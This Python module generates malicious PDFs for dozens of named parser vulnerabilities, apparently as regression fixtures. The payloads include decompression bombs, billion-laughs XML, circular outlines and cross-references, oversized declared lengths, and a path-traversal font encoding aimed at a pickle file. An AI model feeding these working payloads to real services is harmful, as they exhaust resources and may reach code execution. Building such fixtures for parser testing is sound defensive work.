"Small PDFs of our own, made to harm in the ways that advisories tell"
import struct
import zlib

SAID = 'We weigh old trees from one photograph and from the length of their shadow. Every tree takes a minute, and the weight is right to within three percent for oaks, ashes and elms of any age. '
TITLE = 'Weighing old trees from one photograph'


def content(more=b''):
    "The page of a small paper"
    lines = ['BT /F1 20 Tf 72 720 Td (%s) Tj ET' % TITLE, 'BT /F1 11 Tf 72 690 Td (Ann Roe) Tj ET', 'BT /F1 12 Tf 72 660 Td (Abstract) Tj ET']
    words, row, y = SAID.split(), [], 640
    for w in [*words, None]:
        if w is None or len(' '.join([*row, w])) > 80: lines.append(f'BT /F1 10 Tf 72 {y} Td ({" ".join(row)}) Tj ET'); row, y = [], y - 12
        if w: row.append(w)
    return '\n'.join([*lines, 'BT /F1 12 Tf 72 580 Td (1 Introduction) Tj ET']).encode() + b'\n' + more


def stream(data, more=b'', length=None): return b'<</Length %s %s>>\nstream\n%s\nendstream' % (str(len(data) if length is None else length).encode(), more, data)


def pdf(page=b'', catalog=b'', pages=b'<</Type/Pages/Kids[3 0 R]/Count 1>>', text=None, resources=b'', second=b'', objects=(), trailer=b'', root=b'/Root 1 0 R', tail=None):
    "A PDF with one page; `objects` are numbered from 6 on, behind a `second` font from 7 on"
    parts = [b'<</Type/Catalog/Pages 2 0 R %s>>' % catalog, pages, b'<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</Font<</F1 5 0 R%s>>%s>>%s>>' % (b'/F2 6 0 R' if second else b'', resources, page), text or stream(content(b'BT /F2 9 Tf (more) Tj ET' if second else b'')),
             b'<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>', *([second] if second else []), *objects]
    out, places = bytearray(b'%PDF-1.7\n'), []
    for n, part in enumerate(parts, 1): places.append(len(out)); out += b'%d 0 obj\n%s\nendobj\n' % (n, part)
    at = len(out)
    if tail is not None: return bytes(out) + (tail(at) if callable(tail) else tail)
    return bytes(out) + b'xref\n0 %d\n0000000000 65535 f \n' % (len(parts) + 1) + b''.join(b'%010d 00000 n \n' % p for p in places) + b'trailer\n<</Size %d %s %s>>\nstartxref\n%d\n%%%%EOF\n' % (len(parts) + 1, root, trailer, at)


def swelling(megabytes):
    "A zlib stream of some bytes for each megabyte of white space"
    packer = zlib.compressobj(9)
    first = packer.compress(b' ' * 2**20) + packer.flush(zlib.Z_FULL_FLUSH)
    block = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = block.compress(b' ' * 2**20) + block.flush(zlib.Z_FULL_FLUSH)
    return first + piece * (megabytes - 1) + b'\x03\x00' + b'\0\0\0\0'


def swelling_lzw(blocks):
    "An LZW stream that gives 7 MB of white space for each block of 5 KB"
    bits, codes = [], [256, 32, *range(258, 4094)]
    width, n = 9, 258
    for i, code in enumerate(codes):
        bits.append(format(code, f'0{width}b'))
        if i > 1: n += 1
        width = 12 if n >= 2047 else 11 if n >= 1023 else 10 if n >= 511 else 9
    text = ''.join(bits) + format(256, '012b')
    whole = text + text[9:] * (blocks - 1) + format(257, '09b')
    whole += '0' * (-len(whole) % 8)
    return int(whole, 2).to_bytes(len(whole) // 8, 'big')


def form(data, resources=b''): return stream(data, b'/Type/XObject/Subtype/Form/BBox[0 0 612 792]/Resources<<%s>>' % resources)


def doubling(depth):
    "Forms that each draw the next one twice"
    return [form(b'/X Do /X Do', b'/XObject<</X %d 0 R>>' % (7 + n)) if n < depth - 1 else form(b'BT /F1 9 Tf (oak) Tj ET', b'/Font<</F1 5 0 R>>') for n in range(depth)]


def chain(n, entry, last=b''): return [entry % (7 + i) if i < n - 1 else last or entry % 6 for i in range(n)]


def xref_stream(more, data=b'\0' * 20):
    def tail(at): return b'9 0 obj\n' + stream(data, b'/Type/XRef/Root 1 0 R ' + more) + b'\nendobj\nstartxref\n%d\n%%%%EOF\n' % at
    return tail


def malformed_xrefs(n):
    "Cross-reference streams that each name an earlier one, none of them sound"
    def tail(at):
        out, before = bytearray(), at
        for i in range(n):
            here = at + len(out)
            out += b'%d 0 obj\n' % (9 + i) + stream(b'\xff' * 12, b'/Type/XRef/W[1 2 1]/Index[0 99999999]/Size 99999999/Prev %d/Root 1 0 R' % before) + b'\nendobj\n'
            before = here
        return bytes(out) + b'startxref\n%d\n%%%%EOF\n' % before
    return tail


def toUnicode(line): return stream(b'/CIDInit /ProcSet findresource begin begincmap 1 begincodespacerange <00> <ff> endcodespacerange\n' + line + b'\nendcmap end')


FONT0 = b'<</Type/Font/Subtype/Type0/BaseFont/A/Encoding%s/DescendantFonts[<</Type/Font/Subtype/CIDFontType2/BaseFont/A/CIDSystemInfo<</Registry(A)/Ordering(B)/Supplement 0>>/FontDescriptor<</Type/FontDescriptor/FontName/A/Flags 4>>%s>>]%s>>'
LAUGHS = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a0 "ha">' + b''.join(b'<!ENTITY a%d "%s">' % (n + 1, b'&a%d;' % n * 10) for n in range(12)) + b']><x>&a12;</x>'
IMAGE = b'/Type/XObject/Subtype/Image/Width %d/Height %d/ColorSpace/DeviceRGB/BitsPerComponent 8%s'

PDFS = {
    'CVE-2022-24859': ('an inline image without its end', lambda: pdf(text=stream(content(b'BI /W 9 /H 9 /BPC 8 /CS /G ID ' + b'x' * 5000)))),
    'CVE-2023-36464': ('a comment that the file ends in', lambda: pdf(text=stream(content(b'% no end')))),
    'CVE-2023-36810': ('a megabyte of line ends behind the last line', lambda: pdf() + b'\n' * 2**20),
    'CVE-2025-55197': ('Flate within Flate within Flate, to 400 MB', lambda: pdf(text=stream(zlib.compress(zlib.compress(swelling(400))), b'/Filter[/FlateDecode/FlateDecode/FlateDecode]'))),
    'CVE-2025-62707': ('an inline JPEG without its end', lambda: pdf(text=stream(content(b'BI /W 9 /H 9 /BPC 8 /CS /RGB /F /DCT ID \xff\xd8\xff' + b'x' * 5000)))),
    'CVE-2025-62708': ('LZW to 400 MB', lambda: pdf(text=stream(swelling_lzw(60), b'/Filter/LZWDecode'))),
    'CVE-2025-66019': ('LZW within Flate, to 400 MB', lambda: pdf(text=stream(zlib.compress(swelling_lzw(60)), b'/Filter[/FlateDecode/LZWDecode]'))),
    'CVE-2026-22690': ('no root, and a size of a thousand million objects', lambda: pdf(root=b'', trailer=b'/Size 999999999')),
    'CVE-2026-22691': ('a place of the cross-references that is wrong, and many words that look like them', lambda: pdf(tail=b'startxref ' * 50_000 + b'startxref\n99999999\n%%EOF')),
    'CVE-2026-24688': ('an outline that is its own next entry', lambda: pdf(catalog=b'/Outlines 6 0 R', objects=[b'<</First 7 0 R/Last 7 0 R>>', b'<</Title(a)/Parent 6 0 R/Next 7 0 R/First 7 0 R>>'])),
    'CVE-2026-27024': ('an outline of 5,000 entries whose last leads to the first', lambda: pdf(catalog=b'/Outlines 6 0 R', objects=chain(5000, b'<</Title(a)/Next %d 0 R/First 6 0 R>>'))),
    'CVE-2026-27025': ('a ToUnicode range of four thousand million', lambda: pdf(second=FONT0 % (b'/Identity-H', b'', b'/ToUnicode 7 0 R'), objects=[toUnicode(b'1 beginbfrange <00000000> <ffffffff> <0041> endbfrange')])),
    'CVE-2026-27026': ('a megabyte of noise that says that it is Flate', lambda: pdf(text=stream(b'x\x9c' + bytes(range(256)) * 4096, b'/Filter/FlateDecode'))),
    'CVE-2026-27628': ('cross-references that lead back to themselves', lambda: pdf(tail=lambda at: b'xref\n0 1\n0000000000 65535 f \ntrailer\n<</Size 9/Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF' % (at, at))),
    'CVE-2026-27888': ('a form (XFA) that unpacks to 400 MB', lambda: pdf(catalog=b'/AcroForm<</Fields[]/XFA 6 0 R>>', objects=[stream(swelling(400), b'/Filter/FlateDecode')])),
    'CVE-2026-28351': ('runs of bytes to 256 MB', lambda: pdf(text=stream(zlib.compress(b'\x81 ' * (2 << 20)), b'/Filter[/FlateDecode/RunLengthDecode]'))),
    'CVE-2026-28804': ('two megabytes of hexadecimal digits', lambda: pdf(text=stream(b'20' * 2**20 + b'>', b'/Filter/ASCIIHexDecode'))),
    'CVE-2026-31826': ('a stream that says that it has a million million bytes', lambda: pdf(text=stream(content(), length=10**12))),
    'CVE-2026-33123': ('a page of 100,000 parts', lambda: pdf(page=b'/Contents[' + b'4 0 R ' * 100_000 + b']')),
    'CVE-2026-40260': ('entities that multiply in its metadata', lambda: pdf(catalog=b'/Metadata 6 0 R', objects=[stream(LAUGHS, b'/Type/Metadata/Subtype/XML')])),
    'CVE-2026-48155': ('letters that stand a million million miles away', lambda: pdf(text=stream(content(b'BT /F1 9 Tf 1e30 1e30 Td (far) Tj -1e38 0 Td (away) Tj ET')))),
    'CVE-2026-48156': ('cross-references of width nothing for a thousand million objects', lambda: pdf(tail=xref_stream(b'/W[0 0 0]/Size 999999999'))),
    'CVE-2026-48735': ('metadata nested 100,000 deep', lambda: pdf(catalog=b'/Metadata 6 0 R', objects=[stream(b'<a>' * 100_000, b'/Type/Metadata/Subtype/XML')])),
    'CVE-2026-49460': ('Flate with a predictor for rows of one byte', lambda: pdf(text=stream(zlib.compress(b'\x02 ' * 2**20), b'/Filter/FlateDecode/DecodeParms<</Predictor 15/Columns 1>>'))),
    'CVE-2026-49461': ('a form that draws itself', lambda: pdf(text=stream(content(b'/X Do')), resources=b'/XObject<</X 6 0 R>>', objects=[form(b'/X Do', b'/XObject<</X 6 0 R>>')])),
    'CVE-2026-54530': ('letters of no width', lambda: pdf(text=stream(content(b'BT /F1 0 Tf 0 Tz -9999999 Tc 0 Tw (none) Tj /F1 9 Tf 0 0 0 0 0 0 Tm (none) Tj ET')))),
    'CVE-2026-54531': ('an outline whose parent is its child', lambda: pdf(catalog=b'/Outlines 6 0 R', objects=[b'<</First 7 0 R/Last 7 0 R/Parent 7 0 R>>', b'<</Title(a)/Parent 6 0 R/First 6 0 R/Last 6 0 R/Next 6 0 R>>'])),
    'CVE-2026-59937': ('2,000 malformed cross-reference streams', lambda: pdf(tail=malformed_xrefs(2000))),
    'CVE-2026-59938': ('an image that says that it has a million million million pixels', lambda: pdf(text=stream(content(b'/X Do')), resources=b'/XObject<</X 6 0 R>>', objects=[stream(b'xx', IMAGE % (10**9, 10**9, b''))])),
    'CVE-2026-71852': ('widths for four thousand million letters', lambda: pdf(second=FONT0 % (b'/Identity-H', b'/W[0 4294967295 500]', b''))),
    'CVE-2026-71870': ('a ToUnicode list of 200,000 letters, each of 500', lambda: pdf(second=FONT0 % (b'/Identity-H', b'', b'/ToUnicode 7 0 R'), objects=[stream(zlib.compress(b'begincmap 200000 beginbfchar ' + (b'<0041> <' + b'0042' * 500 + b'>\n') * 5000 + b'endbfchar endcmap'), b'/Filter/FlateDecode')])),
    'CVE-2026-84310': ('an outline nested 20,000 deep', lambda: pdf(catalog=b'/Outlines 6 0 R', objects=chain(20_000, b'<</Title(a)/First %d 0 R/Last 6 0 R>>', b'<</Title(z)>>'))),
    'CVE-2026-84311': ('forms that draw each other a thousand million times', lambda: pdf(text=stream(content(b'/X Do')), resources=b'/XObject<</X 6 0 R>>', objects=doubling(30))),
    'GHSA-jm82-fx9c-mx94': ('a stream that does not say how long it is, of 20 MB', lambda: pdf(text=b'<<>>\nstream\n' + content() + b' ' * (20 << 20) + b'\nendstream')),
    'pypdf #3576': ('JBIG2 of four thousand million rows', lambda: pdf(text=stream(struct.pack('>IBBBI', 0, 48, 0, 1, 19) + struct.pack('>IIIIBH', 2**31, 2**31, 0, 0, 0, 0), b'/Filter/JBIG2Decode'))),
    'pypdf #3693': ('a dictionary that the file ends in', lambda: pdf(tail=b'9 0 obj\n<</A<</B[(' + b'<</A[' * 2000)),
    'pypdf #3733': ('an object stream of a thousand million objects', lambda: pdf(objects=[stream(zlib.compress(b'7 0 8 9 ' * 1000), b'/Type/ObjStm/N 999999999/First 8000/Filter/FlateDecode')], tail=xref_stream(b'/W[1 2 1]/Size 9/Index[0 9]', b'\2\0\6\0' * 9))),
    'pypdf #3734': ('a predictor for rows of two thousand million columns', lambda: pdf(text=stream(zlib.compress(content()), b'/Filter/FlateDecode/DecodeParms<</Predictor 15/Columns 2147483647/Colors 32/BitsPerComponent 16>>'))),
    'pypdf #4289': ('a file that ends in its cross-references', lambda: pdf(tail=lambda at: b'xref\n0 9\n0000000000 65535 f \nstartxref\n%d\n' % at)),
    'pypdf #4290': ('pages that inherit from 20,000 parents', lambda: pdf(pages=b'<</Type/Pages/Kids[6 0 R]/Count 1>>', objects=chain(20_000, b'<</Type/Pages/Count 1/Kids[%d 0 R]/MediaBox[0 0 9 9]>>', b'<</Type/Pages/Count 1/Kids[3 0 R]>>'))),
    'pypdf #4361': ('an inline image that says that it has a million million pixels', lambda: pdf(text=stream(content(b'BI /W 1000000 /H 1000000 /BPC 8 /CS /RGB ID xx EI\n')))),
    'pypdf #4364': ('an object stream whose objects all stand in one place', lambda: pdf(objects=[stream(b'7 0 ' * 50_000 + b'[6 0 R 7 0 R]', b'/Type/ObjStm/N 50000/First 200000')], tail=xref_stream(b'/W[1 2 1]/Size 9/Index[0 9]', b'\2\0\6\0' * 9))),
    'CVE-2025-64512': ('a font whose encoding is a path to a pickle', lambda: pdf(second=FONT0 % (b'/..#2F..#2F..#2Ftmp#2Fhit', b'', b''))),
    'pages in a circle': ('100,000 pages that are their own parents', lambda: pdf(pages=b'<</Type/Pages/Kids[' + b'2 0 R ' * 100_000 + b']/Count 100000/Parent 2 0 R>>')),
}
